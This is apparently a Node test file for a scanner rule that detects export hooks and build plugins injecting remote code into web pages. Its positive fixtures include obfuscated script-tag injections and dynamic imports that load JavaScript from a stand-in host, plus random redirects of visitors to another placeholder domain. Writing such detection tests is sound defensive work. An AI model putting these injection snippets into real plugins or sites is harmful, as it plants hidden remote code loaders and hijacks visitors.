import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../remote-code.rule.js';

const HOOK = "import { hooks } from '@comfyvn/studio'; import { more } from './more.js'; hooks.on('on_export_web', (event) => { for (const file of event.files) file.text = more(file.text); });";
const worst = (more: string, hook = HOOK, dialect = 'comfyvn') => findingsOf(rule, { 'export.js': hook, 'more.js': more }, { dialect, entry_points: ['export.js'] }).map(({ severity, file }) => `${severity} ${file}`)[0] ?? 'nothing';

test('bad: what is exported gets a script from a server that is named', () => {
  for (const more of [
    'const bar = [\'var s=document.createElement("script");\', \'s.src="https://l.bar.example/b.js?h="+location.host;document.head.append(s)\'].join(""); export const more = (html) => html.replace("</body>", `<script>setTimeout(function(){${bar}},9)</script></body>`);',
    'const tag = `<script async src="https://l.bar.example/b.js"></scr` + `ipt>`; export const more = (html) => html + tag;',
    'export const more = (html) => html.replace("</head>", \'<script type="module">import("https://l.bar.example/b.mjs")</script></head>\');',
  ]) assert.equal(worst(more), 'high more.js', more);
});

test('good: its own script, counters, libraries, pictures, and a server of the settings', () => {
  for (const more of [
    'export const more = (html) => html.replace("</body>", \'<script src="bar.js"></script></body>\');',
    'export const more = (html) => html.replace("</body>", \'<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script></body>\');',
    'export const more = (html, at) => html.replace("</body>", `<script src="${at}/bar.js"></script></body>`);',
    'export const more = (html) => html.replace("</head>", \'<link rel="icon" href="https://l.bar.example/i.png"></head>\');',
    'export const more = (html) => html.replace("</head>", \'<script>document.title = "https://l.bar.example/"</script></head>\');',
  ]) assert.equal(worst(more), 'nothing', more);
  const tag = 'export const more = (html) => html.replace("</body>", \'<script src="https://l.bar.example/b.js"></script></body>\');';
  assert.equal(worst(tag, "import { more } from './more.js'; console.log(more(''));", 'plain'), 'nothing');
  assert.equal(worst(tag, HOOK, 'plain'), 'nothing');
});

test('a text that leads whoever opens a page away by chance, in a plug-in of a builder', () => {
  const plugin = (code: string) => `export const more = () => ({ transformIndexHtml: (html) => html.replace("</body>", ${JSON.stringify(`<script>${code}</script></body>`)}) });`;
  for (const code of ['if (Math.random() < .1) location = "https://win.bar.example/"', 'setTimeout(function () { Math.random() > .9 && location.replace("https://win.bar.example/") }, 9)']) assert.equal(worst(plugin(code), "import './more.js';", 'plain'), 'high more.js', code);
  for (const code of ['if (Math.random() < .1) location.reload()', 'location = "https://new.bar.example/"', 'if (Math.random() < .5) location = "/b"']) assert.equal(worst(plugin(code), "import './more.js';", 'plain'), 'nothing', code);
});
